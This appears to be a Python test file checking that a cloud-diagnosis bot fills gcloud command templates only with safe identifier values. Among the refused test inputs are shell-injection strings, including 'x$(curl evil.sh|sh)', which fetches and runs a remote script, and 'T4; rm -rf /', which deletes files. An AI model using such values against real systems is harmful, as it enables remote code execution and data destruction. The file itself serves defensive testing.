"""Command templates are filled only with values that look like identifiers: a log line cannot inject shell."""

from __future__ import annotations

import shlex

import pytest

from bot.diagnosis.commands.fill import fill, fill_commands, placeholder, safe_value
from bot.diagnosis.knowledge_schema import CommandTemplate
from bot.models import Command

TEMPLATE = "gcloud storage buckets describe gs://{bucket} --project={project}"


@pytest.mark.parametrize("char", ["$", "(", ")", "{", "}", "`", ";", "|", "&", "<", ">", " ", "'", '"', "\\", "*", "!"])
def test_a_shell_character_anywhere_in_a_value_refuses_it(char: str) -> None:
    for value in (f"bucket{char}x", f"ab{char}cd"):
        assert safe_value(value) is None, value
        assert fill(TEMPLATE, {"bucket": value, "project": "acme-ml"}) == (
            "gcloud storage buckets describe gs://BUCKET --project=acme-ml"
        )


@pytest.mark.parametrize("value", ["$(id)", "`id`x", "x$(curl evil.sh|sh)", "${HOME}", "a{b}", "{x}"])
def test_command_substitution_and_expansion_are_refused(value: str) -> None:
    assert safe_value(value) is None
    command = fill("gcloud x --a={bucket}", {"bucket": value})
    assert command == "gcloud x --a=BUCKET"
    assert shlex.split(command) == ["gcloud", "x", "--a=BUCKET"]


@pytest.mark.parametrize(
    "value",
    [
        "acme-train-data",
        "trainer@acme-ml.iam.gserviceaccount.com",
        "aiplatform.googleapis.com/custom_model_training_nvidia_a100_gpus",
        "data-lake-1:events",
        "roles/storage.objectViewer",
        "a+b=c",
        "9",
        "A" * 201,
    ],
)
def test_identifiers_pass_unchanged(value: str) -> None:
    assert safe_value(value) == value
    assert fill("gcloud x {bucket}", {"bucket": value}) == f"gcloud x {value}"


def test_a_value_may_be_at_most_201_characters_and_must_start_with_a_letter_or_digit() -> None:
    assert safe_value("A" * 202) is None
    assert safe_value("-rf") is None
    assert safe_value(".hidden") is None
    assert safe_value("") is None
    assert safe_value("a\nb") is None
    assert safe_value(None) is None


def test_only_quotes_and_backticks_are_dropped_around_a_value() -> None:
    assert safe_value("XY-1") == "XY-1"
    assert safe_value("x-ray-X") == "x-ray-X"


def test_quotes_and_backticks_around_a_value_are_dropped_not_kept() -> None:
    assert safe_value("'acme-ml'") == "acme-ml"
    assert safe_value('"acme-ml"') == "acme-ml"
    assert safe_value("`acme-ml`") == "acme-ml"
    assert safe_value("  acme-ml  ") == "acme-ml"
    assert safe_value("'a'b'") is None  # a quote inside stays, and is refused


def test_placeholders_name_what_is_missing() -> None:
    assert placeholder("project") == "PROJECT_ID"
    assert placeholder("resource_project") == "PROJECT_ID"
    assert placeholder("region") == "REGION"
    assert placeholder("job_id") == "JOB_ID"
    assert placeholder("service_account") == "SERVICE_ACCOUNT_EMAIL"
    assert placeholder("bucket") == "BUCKET"
    assert fill("gcloud {project} {region} {job_id} {service_account} {metric_name}", {}) == (
        "gcloud PROJECT_ID REGION JOB_ID SERVICE_ACCOUNT_EMAIL METRIC_NAME"
    )


def test_only_lowercase_names_in_braces_are_placeholders() -> None:
    details = {"project": "acme-ml"}
    assert fill("gcloud --format={Value} --project={project}", details) == "gcloud --format={Value} --project=acme-ml"
    assert fill("gcloud --x={1a} --y={a_1}", {"a_1": "v"}) == "gcloud --x={1a} --y=v"


def test_templates_missing_a_required_detail_are_left_out() -> None:
    templates = [
        CommandTemplate(
            title="Describe", template="gcloud storage buckets describe gs://{bucket}", requires=["bucket"]
        ),
        CommandTemplate(title="Quota", template="gcloud quotas info list --project={project}"),
        CommandTemplate(title="Grant", template="gcloud x {bucket} {role}", requires=["bucket", "role"]),
    ]
    assert fill_commands(templates, {"bucket": "data"}) == [
        Command(title="Describe", command="gcloud storage buckets describe gs://data"),
        Command(title="Quota", command="gcloud quotas info list --project=PROJECT_ID"),
    ]
    unsafe = fill_commands(templates, {"bucket": "$(id)", "role": "roles/x.y"})
    assert [c.title for c in unsafe] == ["Quota"]  # an unsafe required value counts as unknown
    both = fill_commands(templates, {"bucket": "data", "role": "roles/x.y", "project": "p1"})
    assert [c.command for c in both] == [
        "gcloud storage buckets describe gs://data",
        "gcloud quotas info list --project=p1",
        "gcloud x data roles/x.y",
    ]


def test_a_title_shows_a_value_in_its_plain_form_a_command_only_in_its_identifier_form() -> None:
    template = CommandTemplate(
        title="Run in {alternative_region} (offered in {offering_regions})",
        template="gcloud ai custom-jobs create --region={alternative_region}",
        requires=["alternative_region", "offering_regions"],
    )
    details = {"alternative_region": "us-east1", "offering_regions": "us-east1, us-west1"}
    assert fill_commands([template], details) == [
        Command(
            title="Run in us-east1 (offered in us-east1, us-west1)",
            command="gcloud ai custom-jobs create --region=us-east1",
        )
    ]
    # a quoted value enters the command without its quotes; the title, which shows values as they are, names it
    quoted = {"alternative_region": "'us-east1'", "offering_regions": "us-east1"}
    assert fill_commands([template], quoted) == [
        Command(
            title="Run in ALTERNATIVE_REGION (offered in us-east1)",
            command="gcloud ai custom-jobs create --region=us-east1",
        )
    ]


def test_a_required_detail_shown_only_in_the_title_must_be_plain_text() -> None:
    template = CommandTemplate(
        title="Quota of {accelerator}",
        template="gcloud beta quotas info list --project={project}",
        requires=["accelerator"],
    )
    assert fill_commands([template], {"project": "acme-ml"}) == []  # unknown: left out
    assert fill_commands([template], {"accelerator": "T4; rm -rf /"}) == []
    assert fill_commands([template], {"accelerator": "NVIDIA_TESLA_T4, NVIDIA_L4"}) == [
        Command(
            title="Quota of NVIDIA_TESLA_T4, NVIDIA_L4", command="gcloud beta quotas info list --project=PROJECT_ID"
        )
    ]
    # in the command itself a value must be an identifier: ", " lists are refused there
    in_command = CommandTemplate(
        title="Describe", template="gcloud compute regions describe {region}", requires=["region"]
    )
    assert fill_commands([in_command], {"region": "us-east1, us-west1"}) == []
    assert fill_commands([in_command], {"region": "'us-east1'"}) == [
        Command(title="Describe", command="gcloud compute regions describe us-east1")
    ]


def test_absent_when_and_unless_decide_which_templates_apply() -> None:
    absent = CommandTemplate(title="Absent", template="gcloud a", absent=["quota_id"])
    when = CommandTemplate(title="When", template="gcloud b", when={"grantee": ["user", "group"]})
    unless = CommandTemplate(title="Unless", template="gcloud c", unless={"grantee": "user"})
    templates = [absent, when, unless]
    assert [c.title for c in fill_commands(templates, {})] == ["Absent", "Unless"]
    assert [c.title for c in fill_commands(templates, {"quota_id": ""})] == ["Absent", "Unless"]
    assert [c.title for c in fill_commands(templates, {"quota_id": "X-per-project", "grantee": "user"})] == ["When"]
    assert [c.title for c in fill_commands(templates, {"grantee": "group"})] == ["Absent", "When", "Unless"]
    assert [c.title for c in fill_commands(templates, {"grantee": "service_account"})] == ["Absent", "Unless"]


def test_a_template_left_out_does_not_stop_the_ones_after_it() -> None:
    templates = [
        CommandTemplate(title="Grant", template="gcloud projects add-iam-policy-binding p --role={role}"),
        CommandTemplate(title="Needs", template="gcloud x {bucket}", requires=["bucket"]),
        CommandTemplate(title="Describe", template="gcloud ai custom-jobs describe {job_id}"),
    ]
    assert fill_commands(templates, {"role": "roles/editor", "job_id": "42"}) == [
        Command(title="Describe", command="gcloud ai custom-jobs describe 42")
    ]
